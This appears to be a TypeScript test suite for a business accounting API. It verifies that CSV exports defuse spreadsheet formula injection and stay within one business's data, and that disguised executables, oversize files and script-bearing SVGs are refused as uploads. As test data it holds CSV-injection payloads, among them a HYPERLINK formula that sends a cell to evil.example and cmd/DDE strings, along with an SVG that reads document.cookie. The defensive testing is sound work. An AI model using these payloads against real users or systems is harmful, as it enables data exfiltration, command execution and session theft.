import { parse } from 'csv-parse/sync';
import { createOwner, type SignedInOwner } from '../support/accounts.js';
import { countEvents, createTestApi, type TestApi } from '../support/test-api.js';

/**
 * Part 10, exports and uploads: every CSV export neutralises cells a spreadsheet would read as a
 * formula and holds only the business's own rows; uploads that are too large, executables renamed
 * as pictures, and SVG with script are refused, leaving nothing stored.
 */

/** What a spreadsheet runs as a formula (OWASP, CSV injection): = + - @, tab, carriage return. */
const FORMULA_START = /^[=+\-@\t\r]/;
const PLAIN_NUMBER = /^-?\d+(\.\d+)?$/;
const HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", '-2+3+cmd|x', '@SUM(1+1)*cmd', '\t=1+1', '\r=1+1'];

const escape = (text: string) => text.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');

/** The CSV exports a business can download (GET routes answering text/csv). */
const CSV_EXPORTS = ['/api/v1/transactions/export/csv', '/api/v1/transactions/bulk-template/download'];

const ELF = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01, 0x00]), Buffer.alloc(120, 0x90)]);
const WINDOWS_EXE = Buffer.concat([
  Buffer.from('MZ\x90\x00\x03\x00\x00\x00', 'latin1'),
  Buffer.alloc(120, 0),
  Buffer.from('This program cannot be run in DOS mode.'),
]);
const SVG_WITH_SCRIPT = Buffer.from(
  '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.cookie)"><script>fetch("/api/v1/auth")</script></svg>',
);
const OVERSIZE = Buffer.alloc(10 * 1024 * 1024 + 1, 0xff);
OVERSIZE.set([0xff, 0xd8, 0xff, 0xe0]); // starts as a JPEG: refused for its size alone

describe('reliability 10: exports and uploads', () => {
  let api: TestApi;
  let owner: SignedInOwner;
  let other: SignedInOwner;
  let expenseReference: string;
  const post = (user: SignedInOwner, url: string, body: unknown) => api.request({ method: 'POST', url, body, headers: { cookie: user.cookie } });
  const postForm = async (user: SignedInOwner, url: string, form: FormData) => {
    const response = await fetch(`${api.baseUrl}${url}`, { method: 'POST', body: form, headers: { cookie: user.cookie } });
    return { status: response.status, body: (await response.json()) as any };
  };

  beforeAll(async () => {
    api = await createTestApi();
    owner = await createOwner(api, { business: 'Export Stores' });
    other = await createOwner(api, { business: 'Other Stores' });
    for (const [i, text] of HOSTILE.entries()) {
      const contact = await post(owner, '/api/v1/entities', { name: `${text} contact ${i}` });
      expect(contact.status).toBe(201);
      const recorded = await post(owner, '/api/v1/transactions/money-in', {
        date: '2026-03-0' + (i + 1),
        amount: `${i + 1}00.00`,
        subtype: 'debt_repayment',
        entity: contact.body.data.id,
        account: 'Cash',
        description: `${text} owner-row-${i}`,
      });
      expect(recorded.status).toBe(201);
    }
    const product = await post(owner, '/api/v1/inventories', { type: 'SERVICE', name: '=1+1 service', sellingPrice: '100' });
    expect(product.status).toBe(201);
    expect(
      (
        await post(owner, '/api/v1/transactions/sales', {
          date: '2026-03-10',
          items: [{ product: product.body.data.id, quantity: 1, price: '100.00' }],
          account: 'Cash',
          description: '=evil() sale',
        })
      ).status,
    ).toBe(201);
    const expense = await post(owner, '/api/v1/transactions/expenses', { date: '2026-03-11', category: 'rent', amount: '500.00', account: 'Cash' });
    expect(expense.status).toBe(201);
    expenseReference = expense.body.data.reference;
    expect(
      (
        await post(other, '/api/v1/transactions/money-in', {
          date: '2026-03-01',
          amount: '1.00',
          subtype: 'capital',
          account: 'Cash',
          description: 'other-business-row',
        })
      ).status,
    ).toBe(201);
  }, 120_000);
  afterAll(async () => {
    await api?.close();
  });

  describe.each(CSV_EXPORTS)('CSV export %s', (url) => {
    it('neutralises every cell a spreadsheet would read as a formula, and holds only the business’s rows', async () => {
      const response = await fetch(`${api.baseUrl}${url}`, { headers: { cookie: owner.cookie } });
      expect(response.status).toBe(200);
      expect(response.headers.get('content-type')).toMatch(/^text\/csv/);
      const text = await response.text();
      const cells = (parse(text, { relax_column_count: true }) as string[][]).flat();
      expect(cells.filter((cell) => FORMULA_START.test(cell) && !PLAIN_NUMBER.test(cell))).toEqual([]);
      expect(text).not.toContain('other-business-row');
      if (url.includes('export')) {
        // The hostile text is there, neutralised with a leading apostrophe, not dropped.
        // (Leading blanks may be trimmed on input; what is left must still be neutralised.)
        for (const [i, hostile] of HOSTILE.entries())
          expect(cells).toContainEqual(expect.stringMatching(new RegExp(`^'${escape(hostile.trim())} owner-row-${i}$`)));
      }
    });
  });

  const receiptUpload = (bytes: Buffer, name: string, type: string) => {
    const form = new FormData();
    form.append('reference', expenseReference);
    form.append('file', new Blob([new Uint8Array(bytes)], { type }), name);
    return postForm(owner, '/api/v1/transactions/expense/receipt', form);
  };
  const productWithImage = (bytes: Buffer, name: string, type: string) => {
    const form = new FormData();
    form.set('type', 'PRODUCT');
    form.set('name', `Pictured ${name}`);
    form.set('sellingPrice', '10');
    form.set('image', new Blob([new Uint8Array(bytes)], { type }), name);
    return postForm(owner, '/api/v1/inventories', form);
  };
  const refusals: [string, Buffer, string, string, number][] = [
    ['an oversize file', OVERSIZE, 'big.jpg', 'image/jpeg', 413],
    ['an ELF executable renamed .png', ELF, 'receipt.png', 'image/png', 400],
    ['a Windows executable renamed .jpg', WINDOWS_EXE, 'receipt.jpg', 'image/jpeg', 400],
    ['an SVG with script', SVG_WITH_SCRIPT, 'receipt.svg', 'image/svg+xml', 400],
    ['an SVG with script renamed .png', SVG_WITH_SCRIPT, 'receipt.png', 'image/png', 400],
  ];

  it.each(refusals)('refuses %s as an expense receipt, storing nothing', async (_, bytes, name, type, status) => {
    const events = await countEvents(api);
    const response = await receiptUpload(bytes, name, type);
    expect(response.status).toBe(status);
    expect(response.body.success).toBe(false);
    expect(await countEvents(api)).toBe(events);
    const stored = await fetch(`${api.baseUrl}/api/v1/transactions/expense/receipt/download?reference=${expenseReference}`, {
      headers: { cookie: owner.cookie },
    });
    expect(stored.status).toBe(404);
  });

  it.each(refusals)('refuses %s as a product image, storing nothing', async (_, bytes, name, type, status) => {
    const events = await countEvents(api);
    const response = await productWithImage(bytes, name, type);
    expect(response.status).toBe(status);
    expect(response.body.success).toBe(false);
    expect(await countEvents(api)).toBe(events);
  });
});
